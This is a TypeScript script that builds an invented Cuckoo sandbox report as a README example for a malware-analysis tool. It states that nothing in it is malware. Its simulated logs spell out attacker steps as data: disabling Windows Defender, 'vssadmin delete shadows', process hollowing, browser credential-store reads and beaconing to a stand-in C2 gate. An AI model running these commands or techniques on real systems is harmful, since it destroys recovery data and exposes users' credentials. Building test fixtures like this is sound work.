/**
 * Makes the example analysis that the README runs: a sample of our own invention, told in the words of Cuckoo 2's
 * monitor. Nothing of it is malware; the "sample" is the headers of a program that cannot run.
 *
 *   node scripts/run.mjs scripts/make-example.ts [FOLDER]
 */
import { createHash } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type BsonInput, bson } from '../tests/support/bson-writer.ts';
import { ACK, dnsPair, FIN_ACK, type Packet, PSH_ACK, pcap, SYN } from '../tests/support/pcap-writer.ts';

const START = Date.UTC(2026, 2, 14, 9, 26, 53);
const TEMP = 'C:\\Users\\anna\\AppData\\Local\\Temp';
const ROAMING = 'C:\\Users\\anna\\AppData\\Roaming\\Updater';
const RUN_KEY = 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater';
const NOT_FOUND = 0xc0000034n;

type Value = BsonInput;
type Flags = { [argument: string]: [number, string][] };

interface CallOptions {
  status?: 0 | 1;
  result?: bigint;
  tid?: number;
  /** Milliseconds since the call before. */
  after?: number;
  flags?: Flags;
}

/** Writes the log of one process. */
class Guest {
  readonly pid: number;
  readonly #parts: Buffer[] = [];
  readonly #known = new Map<string, number>();
  #ms = 0;
  readonly #tid: number;

  constructor(pid: number, ppid: number, startMs: number, path: string, commandLine: string) {
    this.pid = pid;
    this.#tid = pid + 4;
    const ticks = BigInt(START + startMs) * 10_000n + 116_444_736_000_000_000n;
    this.call('__process__', '__notification__', {
      time_low: Number(BigInt.asIntN(32, ticks)),
      time_high: Number(ticks >> 32n),
      pid,
      ppid,
      module_path: path,
      command_line: commandLine,
      is_64bit: 0,
      track: 1,
      modules: [
        { filepath: path, basename: path.slice(path.lastIndexOf('\\') + 1), baseaddr: '0x400000', imgsize: 40960 },
      ],
    });
  }

  /** An argument named `p:…` is announced as a pointer, `x:…` as hexadecimal. */
  call(api: string, category: string, args: { [name: string]: Value }, options: CallOptions = {}): this {
    const { status = 1, result = 0n, tid = this.#tid, after = 3, flags = {} } = options;
    this.#ms += after;
    const index = this.#explain(api, category, Object.keys(args), flags);
    const error: { [name: string]: Value } = status === 0 ? { e: 2, E: Number(BigInt.asIntN(32, result)) } : {};
    this.#parts.push(
      bson({ I: index, T: tid, t: this.#ms, h: 0n, ...error, args: [status, result, ...Object.values(args)] }),
    );
    return this;
  }

  bytes(): Buffer {
    return Buffer.concat(this.#parts);
  }

  #explain(api: string, category: string, names: string[], flags: Flags): number {
    const key = `${api} ${names.join()}`;
    const known = this.#known.get(key);
    if (known !== undefined) return known;
    const index = this.#known.size;
    this.#known.set(key, index);
    const args = names.map((name) => (name[1] === ':' ? [name.slice(2), name[0]!] : name));
    const empty = Object.fromEntries(Object.keys(flags).map((name): [string, Value] => [name, []]));
    this.#parts.push(
      bson({
        I: index,
        name: api,
        type: 'info',
        category,
        args: ['is_success', 'retval', ...args],
        flags_value: flags,
        flags_bitmask: empty,
      }),
    );
    return index;
  }
}

const FILE_STATUS: Flags = {
  status_info: [
    [1, 'FILE_OPENED'],
    [2, 'FILE_CREATED'],
    [5, 'FILE_DOES_NOT_EXIST'],
  ],
};
const PROTECTION: Flags = {
  protection: [
    [4, 'PAGE_READWRITE'],
    [64, 'PAGE_EXECUTE_READWRITE'],
  ],
};

function loads(guest: Guest, modules: string[]): void {
  for (const [i, name] of modules.entries()) {
    const base = 0x75000000 + i * 0x10000;
    guest.call('LdrLoadDll', 'system', {
      flags: 0,
      'p:module_address': base,
      module_name: name,
      basename: name.replace('.dll', ''),
    });
    for (const word of ['Open', 'Create', 'Query', 'Close']) {
      guest.call(
        'LdrGetProcedureAddress',
        'system',
        {
          'p:module_address': base,
          function_name: `${word}${i}A`,
          ordinal: 0,
          'p:function_address': base + 0x1000 + i,
          module: name.replace('.dll', ''),
        },
        { after: 0 },
      );
    }
  }
}

function openFile(guest: Guest, filepath: string, how: 1 | 2 | 5, handle = 0x88): void {
  const failed = how === 5;
  guest.call(
    'NtCreateFile',
    'file',
    {
      'p:file_handle': failed ? 0 : handle,
      'x:desired_access': 0x40100080,
      status_info: how,
      filepath,
      filepath_r: `\\??\\${filepath}`,
    },
    failed ? { status: 0, result: NOT_FOUND, flags: FILE_STATUS } : { flags: FILE_STATUS },
  );
}

function queries(guest: Guest, keys: string[]): void {
  for (const regkey of keys) {
    guest.call(
      'RegOpenKeyExA',
      'registry',
      { 'p:base_handle': 0x80000002, 'p:key_handle': 0, regkey },
      { status: 0, result: 2n },
    );
  }
}

function invoice(): Guest {
  const guest = new Guest(2412, 1896, 0, `${TEMP}\\invoice.exe`, `"${TEMP}\\invoice.exe"`);
  loads(guest, ['kernel32.dll', 'advapi32.dll', 'shell32.dll', 'wininet.dll', 'ole32.dll']);
  queries(guest, [
    'HKEY_LOCAL_MACHINE\\SOFTWARE\\Oracle\\VirtualBox Guest Additions',
    'HKEY_LOCAL_MACHINE\\HARDWARE\\ACPI\\DSDT\\VBOX__',
    'HKEY_LOCAL_MACHINE\\SOFTWARE\\VMware, Inc.\\VMware Tools',
  ]);
  for (const driver of ['VBoxMouse.sys', 'VBoxGuest.sys', 'vmmouse.sys']) {
    guest.call(
      'GetFileAttributesW',
      'file',
      { file_attributes: -1, filepath: `C:\\Windows\\System32\\drivers\\${driver}` },
      { status: 0, result: 0xffffffffn },
    );
  }
  guest.call('IsDebuggerPresent', 'system', {}, { status: 0 });
  guest.call('NtDelayExecution', 'synchronisation', { milliseconds: 180000, skipped: 1 });
  guest.call('NtCreateMutant', 'synchronisation', {
    'p:mutant_handle': 0x94,
    mutant_name: 'Global\\upd-7c1f',
    initial_owner: 1,
  });
  guest.call('CreateDirectoryW', 'file', { dirpath: ROAMING });
  openFile(guest, `${ROAMING}\\updater.exe`, 2);
  for (let i = 0; i < 40; i++) {
    guest.call(
      'NtWriteFile',
      'file',
      { 'p:file_handle': 0x88, buffer: Buffer.from(i === 0 ? 'MZ (not a program)' : `part ${i}`), offset: i * 4096 },
      { after: 1 },
    );
  }
  guest.call('NtClose', 'system', { 'p:handle': 0x88 });
  guest.call('RegSetValueExA', 'registry', {
    'p:key_handle': 0x98,
    regkey: RUN_KEY,
    reg_type: 1,
    value: `${ROAMING}\\updater.exe`,
  });
  guest.call('CreateProcessInternalW', 'process', {
    'p:process_handle': 0xa0,
    'p:thread_handle': 0xa4,
    process_identifier: 2560,
    thread_identifier: 2564,
    filepath: '',
    track: 1,
    command_line: 'powershell.exe -NoP -W Hidden -EncodedCommand VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGgAaQAnAA==',
    'x:creation_flags': 0x08000000,
  });
  guest.call(
    'CreateProcessInternalW',
    'process',
    {
      'p:process_handle': 0xb0,
      'p:thread_handle': 0xb4,
      process_identifier: 2684,
      thread_identifier: 2688,
      filepath: 'C:\\Windows\\System32\\svchost.exe',
      track: 1,
      command_line: 'C:\\Windows\\System32\\svchost.exe',
      'x:creation_flags': 4,
    },
    { flags: { creation_flags: [[4, 'CREATE_SUSPENDED']] } },
  );
  guest.call('NtUnmapViewOfSection', 'process', {
    'p:process_handle': 0xb0,
    'p:base_address': 0x400000,
    process_identifier: 2684,
    region_size: 0,
  });
  guest.call(
    'NtAllocateVirtualMemory',
    'process',
    {
      'p:process_handle': 0xb0,
      'p:base_address': 0x400000,
      region_size: 36864,
      'x:allocation_type': 0x3000,
      'x:protection': 64,
      process_identifier: 2684,
    },
    { flags: PROTECTION },
  );
  for (let i = 0; i < 5; i++) {
    guest.call('WriteProcessMemory', 'process', {
      'p:process_handle': 0xb0,
      'p:base_address': 0x400000 + i * 0x1000,
      buffer: Buffer.from(i === 0 ? 'MZ (not a program)' : `section ${i}`),
      process_identifier: 2684,
    });
  }
  guest.call('NtSetContextThread', 'process', {
    'p:thread_handle': 0xb4,
    process_identifier: 2684,
    registers: { eip: 4198400 },
  });
  guest.call('NtResumeThread', 'process', { 'p:thread_handle': 0xb4, suspend_count: 1, process_identifier: 2684 });
  guest.call('DeleteFileW', 'file', { filepath: `${TEMP}\\invoice.exe` });
  return guest.call('NtTerminateProcess', 'process', {
    'p:process_handle': -1,
    'x:status_code': 0,
    process_identifier: 2412,
  });
}

function powershell(): Guest {
  const path = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
  const guest = new Guest(
    2560,
    2412,
    182_000,
    path,
    'powershell.exe -NoP -W Hidden -EncodedCommand VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGgAaQAnAA==',
  );
  loads(guest, ['mscoree.dll', 'clr.dll', 'amsi.dll']);
  queries(guest, ['HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\PowerShell\\3\\PowerShellEngine']);
  openFile(guest, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\profile.ps1', 5);
  guest.call('RegSetValueExA', 'registry', {
    'p:key_handle': 0x98,
    regkey: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware',
    reg_type: 4,
    value: 1,
  });
  return guest.call('CreateProcessInternalW', 'process', {
    'p:process_handle': 0xc0,
    'p:thread_handle': 0xc4,
    process_identifier: 2716,
    thread_identifier: 2720,
    filepath: '',
    track: 1,
    command_line: 'vssadmin.exe delete shadows /all /quiet',
    'x:creation_flags': 0,
  });
}

function svchost(): Guest {
  const guest = new Guest(
    2684,
    2412,
    182_300,
    'C:\\Windows\\System32\\svchost.exe',
    'C:\\Windows\\System32\\svchost.exe',
  );
  loads(guest, ['wininet.dll', 'ws2_32.dll', 'crypt32.dll']);
  for (const store of ['Login Data', 'Cookies', 'Web Data']) {
    openFile(guest, `C:\\Users\\anna\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\${store}`, 5);
  }
  openFile(guest, 'C:\\Users\\anna\\AppData\\Roaming\\Mozilla\\Firefox\\profiles.ini', 1);
  guest.call('NtReadFile', 'file', { 'p:file_handle': 0x88, buffer: Buffer.from('[Profile0]'), offset: 0, length: 10 });
  guest.call('getaddrinfo', 'network', { hostname: 'updates.invoice-portal.example', service_name: '' });
  for (let i = 0; i < 60; i++) {
    guest.call(
      'connect',
      'network',
      { 'p:s': 0x1b4, ip_address: '203.0.113.77', port: 443 },
      { status: 0, result: 0xffffffffn, after: 400 },
    );
    guest.call('NtDelayExecution', 'synchronisation', { milliseconds: 400, skipped: 0 }, { after: 1 });
  }
  guest.call('InternetConnectA', 'network', {
    'p:internet_handle': 0xcc0004,
    hostname: 'updates.invoice-portal.example',
    port: 80,
    service: 3,
  });
  return guest.call('InternetOpenUrlA', 'network', {
    'p:internet_handle': 0xcc0004,
    url: 'http://updates.invoice-portal.example/gate.php?id=7c1f',
    headers: '',
  });
}

function vssadmin(): Guest {
  const guest = new Guest(
    2716,
    2560,
    183_100,
    'C:\\Windows\\System32\\vssadmin.exe',
    'vssadmin.exe delete shadows /all /quiet',
  );
  loads(guest, ['vssapi.dll', 'ole32.dll']);
  return guest.call('CoCreateInstance', 'ole', {
    clsid: '{e579ab5f-1cc4-44b4-bed9-de0991ff0623}',
    class_context: 4,
    iid: ['{507c37b4-cf5b-4e95-b0af-14eb9767467e}'],
  });
}

/** The headers of a 32-bit Windows program with one empty section: enough to be recognised, nothing to run. */
function sample(): Buffer {
  const bytes = Buffer.alloc(1024);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('PE\0\0', 0x80, 'latin1');
  bytes.writeUInt16LE(0x14c, 0x84);
  bytes.writeUInt16LE(1, 0x86);
  bytes.writeUInt32LE(START / 1000, 0x88);
  bytes.writeUInt16LE(0xe0, 0x94);
  bytes.writeUInt16LE(0x0102, 0x96);
  bytes.writeUInt16LE(0x10b, 0x98);
  bytes.writeUInt32LE(0x400000, 0xb4);
  bytes.writeUInt32LE(0x1000, 0xb8);
  bytes.writeUInt32LE(0x200, 0xbc);
  bytes.writeUInt16LE(5, 0xc8);
  bytes.writeUInt32LE(0x2000, 0xd0);
  bytes.writeUInt32LE(0x200, 0xd4);
  bytes.writeUInt16LE(2, 0xdc);
  bytes.writeUInt32LE(16, 0xf4);
  bytes.write('.text', 0x178, 'latin1');
  bytes.writeUInt32LE(0x200, 0x180);
  bytes.writeUInt32LE(0x1000, 0x184);
  bytes.writeUInt32LE(0x200, 0x188);
  bytes.writeUInt32LE(0x200, 0x18c);
  bytes.writeUInt32LE(0x60000020, 0x19c);
  bytes.write('An example for Ovoscope. This file is not a program.', 0x200, 'latin1');
  return bytes;
}

/** The gate is asked for by name, refuses connections on port 443 and answers on port 80. */
function capture(): Buffer {
  const guest = '192.168.56.101';
  const resolver = '192.168.56.1';
  const gate = '203.0.113.77';
  const at = (ms: number) => START + 182_500 + ms;
  const [question, answer] = dnsPair(0x4e21, 'updates.invoice-portal.example', gate);
  const ask = { src: guest, dst: resolver, sport: 51_200, dport: 53 };
  const packets: Packet[] = [
    { ms: at(0), ...ask, payload: question },
    { ms: at(31), src: resolver, dst: guest, sport: 53, dport: 51_200, payload: answer },
  ];
  for (let i = 0; i < 3; i++) {
    packets.push({
      ms: at(60 + i * 3000),
      src: guest,
      dst: gate,
      sport: 49_180,
      dport: 443,
      tcp: { seq: 7000, ack: 0, flags: SYN },
    });
  }
  const request = Buffer.from(
    'GET /gate.php?id=7c1f HTTP/1.1\r\nHost: updates.invoice-portal.example\r\nUser-Agent: Updater/1.0\r\nConnection: close\r\n\r\n',
  );
  const response = Buffer.from('HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 5\r\n\r\nsleep');
  const out = { src: guest, dst: gate, sport: 49_181, dport: 80 };
  const back = { src: gate, dst: guest, sport: 80, dport: 49_181 };
  const [a, b] = [1000, 9000];
  packets.push(
    { ms: at(24_000), ...out, tcp: { seq: a, ack: 0, flags: SYN } },
    { ms: at(24_040), ...back, tcp: { seq: b, ack: a + 1, flags: SYN | ACK } },
    { ms: at(24_041), ...out, tcp: { seq: a + 1, ack: b + 1, flags: ACK } },
    { ms: at(24_042), ...out, payload: request, tcp: { seq: a + 1, ack: b + 1, flags: PSH_ACK } },
    { ms: at(24_090), ...back, payload: response, tcp: { seq: b + 1, ack: a + 1 + request.length, flags: PSH_ACK } },
    { ms: at(24_095), ...back, tcp: { seq: b + 1 + response.length, ack: a + 1 + request.length, flags: FIN_ACK } },
    { ms: at(24_096), ...out, tcp: { seq: a + 1 + request.length, ack: b + 2 + response.length, flags: FIN_ACK } },
  );
  return pcap(packets);
}

const DROPPED = Buffer.from('MZ (not a program): the file that the example sample leaves behind.\n');

/** Path in the analysis → content. The same at every call. */
export function exampleFiles(): Map<string, Buffer> {
  const files = new Map<string, Buffer>();
  for (const guest of [invoice(), powershell(), svchost(), vssadmin()])
    files.set(`logs/${guest.pid}.bson`, guest.bytes());
  const dropped = `files/${createHash('sha256').update(DROPPED).digest('hex').slice(0, 16)}_updater.exe`;
  files.set('binary', sample());
  files.set('dump.pcap', capture());
  files.set(dropped, DROPPED);
  const record = { path: dropped, pids: [2412], filepath: `${ROAMING}\\updater.exe` };
  files.set('files.json', Buffer.from(`${JSON.stringify(record)}\n`));
  const time = (ms: number) => ({ $dt: new Date(START + ms).toISOString().replace('Z', '') });
  const task = {
    id: 1,
    category: 'file',
    target: '/samples/invoice.exe',
    package: 'exe',
    platform: 'windows',
    custom: null,
    owner: null,
    route: 'none',
    options: { procmemdump: 'no' },
    timeout: 240,
    added_on: time(-20_000),
    started_on: time(-12_000),
    completed_on: time(231_000),
    guest: {
      name: 'win7x86',
      label: 'win7x86',
      manager: 'virtualbox',
      status: 'stopped',
      started_on: '2026-03-14 09:26:41',
      shutdown_on: '2026-03-14 09:30:44',
    },
  };
  files.set('task.json', Buffer.from(`${JSON.stringify(task, null, 1)}\n`));
  files.set('analysis.log', Buffer.from(analysisLog()));
  return files;
}

function analysisLog(): string {
  const line = (ms: number, logger: string, level: string, text: string) =>
    `${new Date(START + ms).toISOString().replace('T', ' ').replace('.', ',').replace('Z', '')} [${logger}] ${level}: ${text}\n`;
  return [
    line(-3000, 'analyzer', 'INFO', 'Starting analyzer'),
    line(-1000, 'lib.api.process', 'INFO', 'Successfully executed process from path "invoice.exe" with pid 2412'),
    line(182_000, 'analyzer', 'INFO', 'Injected into process with pid 2560'),
    line(182_300, 'analyzer', 'INFO', 'Injected into process with pid 2684'),
    line(183_100, 'analyzer', 'INFO', 'Injected into process with pid 2716'),
    line(229_000, 'analyzer', 'INFO', 'Analysis timeout hit, terminating analysis.'),
  ].join('');
}

/** Writes the example into a folder. */
export function writeExample(folder: string): void {
  for (const [path, content] of exampleFiles()) {
    const target = join(folder, path);
    mkdirSync(join(target, '..'), { recursive: true });
    writeFileSync(target, content);
  }
}

if (process.argv[1]?.includes('make-example')) writeExample(process.argv[2] ?? 'examples/analysis');
